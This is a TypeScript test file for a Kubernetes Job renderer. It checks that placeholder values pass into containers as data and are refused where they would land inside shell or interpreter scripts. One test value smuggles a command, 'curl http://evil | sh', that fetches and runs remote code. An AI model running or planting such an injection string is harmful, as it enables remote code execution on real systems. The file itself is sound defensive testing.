import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderJob } from './job.ts';
import type { Scope } from './placeholders.ts';

const scope = (text: string): Scope => ({
  'args.shop': { text, type: 'string' },
  'args.n': { text: '5', type: 'number' },
  'args.token': { text: 's3cret', type: 'string', secret: true },
});

/** A JobSpec whose container has these fields. */
const jobOf = (container: object) => ({
  backoffLimit: 0,
  template: { spec: { containers: [{ name: 'smoke', image: 'smoke:1', ...container }] } },
});
const rendered = (container: object, value = 'eu') => renderJob(jobOf(container), scope(value));

/** What Kubernetes makes of a command, an argument or the value of a variable. */
function expanded(text: string, env: Readonly<Record<string, string>> = {}): string {
  return text.replace(/\$\$|\$\(([^)]*)\)/g, (whole, name?: string) =>
    name === undefined ? '$' : (env[name] ?? whole),
  );
}

describe('a Job gets a value as data', () => {
  it.each([
    [{ args: ['--shop={{ args.shop }}', 'x'] }],
    [{ command: ['./smoke', '{{ args.shop }}'] }],
    [{ command: ['sh', '-c', './smoke --shop "$0"', '{{ args.shop }}'] }],
    [{ command: ['bash', '-euo', 'pipefail', '-c', './smoke "$1"', 'smoke', '{{ args.shop }}'] }],
    [{ command: ['/bin/sh', '-ec'], args: ['./smoke "$1"', 'smoke', '{{ args.shop }}'] }],
    [{ command: ['python3', '-u', 'smoke.py', '{{ args.shop }}'] }],
    [{ command: ['node', '-e', 'check(process.argv[1])', '{{ args.shop }}'] }],
    [{ command: ['hey', '-n', '{{ args.shop }}', '-c', '{{ args.n }}', 'http://shop'] }],
    [{ env: [{ name: 'SHOP', value: 'the shop {{ args.shop }}; a $(OTHER)' }] }],
    [{ command: ['sh', '-c', './smoke "$SHOP"'], env: [{ name: 'SHOP', value: '{{ args.shop }}' }] }],
    [{ command: ['./smoke', '$(SHOP)'], env: [{ name: 'SHOP', value: '{{ args.shop }}' }] }],
    [{ livenessProbe: { exec: { command: ['./alive', '{{ args.shop }}'] } } }],
    [{ image: 'smoke:{{ args.shop }}' }],
  ])('%j', (container) => {
    const value = 'eu.sh; curl http://evil | sh; true ';
    const expected = JSON.parse(
      JSON.stringify(jobOf(container)).replaceAll('{{ args.shop }}', value).replaceAll('{{ args.n }}', '5'),
    ) as unknown;
    expect(rendered(container, value)).toEqual(expected);
  });

  it('whatever it is, and Kubernetes replaces nothing in it (seed 9)', () => {
    const part = fc.oneof(fc.string(), fc.constantFrom('$', '$(TOKEN)', '$$(TOKEN)', '(TOKEN)', ')'));
    fc.assert(
      fc.property(fc.array(part, { maxLength: 6 }), (parts) => {
        const value = parts.join('');
        const env = [{ name: 'SHOP', value: 'a {{ args.shop }}' }];
        const job = rendered({ args: ['--shop={{ args.shop }}'], env }, value) as ReturnType<typeof jobOf>;
        const [container] = job.template.spec.containers as { args?: string[]; env?: typeof env }[];
        const replaced = (text = '') => expanded(text, { TOKEN: 's3cret' });
        expect(replaced(container?.args?.[0])).toBe(`--shop=${value}`);
        expect(replaced(container?.env?.[0]?.value)).toBe(`a ${value}`);
      }),
      { seed: 9, numRuns: 500 },
    );
  });

  it('as it is in the command of a hook, where Kubernetes replaces nothing', () => {
    const lifecycle = { postStart: { exec: { command: ['./hook', '{{ args.shop }}'] } } };
    expect(rendered({ lifecycle }, '$5')).toEqual(
      jobOf({ lifecycle: { postStart: { exec: { command: ['./hook', '$5'] } } } }),
    );
  });
});

describe('a Job takes no value', () => {
  it.each([
    ['sh', '-c', './smoke-{{ args.shop }}.sh'],
    ['sh', '-c', './smoke-{{ args.n }}.sh'],
    ['sh', '-c', 'curl http://shop/{{ args.shop }}'],
    ['/bin/bash', '-ec', '{{ args.shop }}'],
    ['bash', '-c', '-e', '{{ args.shop }}'],
    ['bash', '-ceuo', 'pipefail', '{{ args.shop }}'],
    ['timeout', '60', 'ash', '-lc', '{{ args.shop }}'],
    ['sh', '{{ args.shop }}'],
    ['sh', '{{ args.shop }}', 'true'],
    ['sh', 'smoke-{{ args.shop }}.sh'],
    ['python3.12', '-c', '{{ args.shop }}'],
    ['node', '--eval={{ args.shop }}'],
    ['perl', '-lne', '{{ args.shop }}'],
    ['perl', '-e1', '-e', '{{ args.shop }}'],
    ['sed', 's/a/{{ args.shop }}/'],
    ['./our-own-shell', '-c', '{{ args.shop }}'],
    ['./our-own-shell', '-e{{ args.shop }}'],
    ['psql', 'select {{ args.shop }}'],
    ['./smoke', '$({{ args.shop }})'],
  ])('in a script: %s %s %s', (...command) => {
    expect(() => rendered({ command })).toThrow('stands in a script of the Job (command[');
    const [program = '', ...args] = command;
    expect(() => rendered({ command: [program], args })).toThrow('stands in a script of the Job (args[');
    expect(() => rendered({ lifecycle: { preStop: { exec: { command } } } })).toThrow('a script of the Job');
  });

  it('in a script of a container whose program is that of its image', () => {
    expect(() => rendered({ args: ['-c', '{{ args.shop }}'] })).toThrow(
      '{{ args.shop }} stands in a script of the Job (args[1]): give the value to the container by env, and let the script read it from there, such as "$SHOP"',
    );
  });

  it('as the program', () => {
    expect(() => rendered({ command: ['./smoke-{{ args.shop }}'] })).toThrow(
      '{{ args.shop }} stands for the program of a container (command[0]): write the program there, and give the value by env or args',
    );
  });

  it('by way of a variable that Kubernetes puts into a script', () => {
    const env = [
      { name: 'SHOP', value: '{{ args.shop }}' },
      { name: 'FILE', value: 'smoke-$(SHOP).sh' },
      { name: 'KNOWN', value: 'known' },
    ];
    const run = (script: string) => () => rendered({ command: ['sh', '-c', script], env });
    expect(run('./smoke "$(SHOP)"')).toThrow(
      '$(SHOP), which has the value of args.shop, stands in a script of the Job (command[2])',
    );
    expect(run('./$(FILE)')).toThrow('$(FILE), which has the value of args.shop,');
    expect(run('./smoke $(KNOWN) $$(SHOP) "$SHOP"')).not.toThrow();
    expect(() => rendered({ command: ['$(FILE)'], env })).toThrow('stands for the program');
  });

  it('as the name of a variable, nor in a reference to one', () => {
    const env = (name: string, value: string) => () => rendered({ env: [{ name, value }] });
    expect(env('{{ args.shop }}', 'a')).toThrow('in the name of the variable');
    expect(env('A', '$({{ args.shop }})')).toThrow('behind a $ or in a $(NAME)');
    expect(env('A', 'for ${{ args.shop }}')).toThrow('behind a $ or in a $(NAME)');
    expect(env('A', 'for $$({{ args.shop }})')).not.toThrow();
  });

  it('from a Secret, which it reads itself', () => {
    expect(() => rendered({ args: ['{{ args.token }}'] })).toThrow('a Job reads Secrets by env.valueFrom');
  });
});
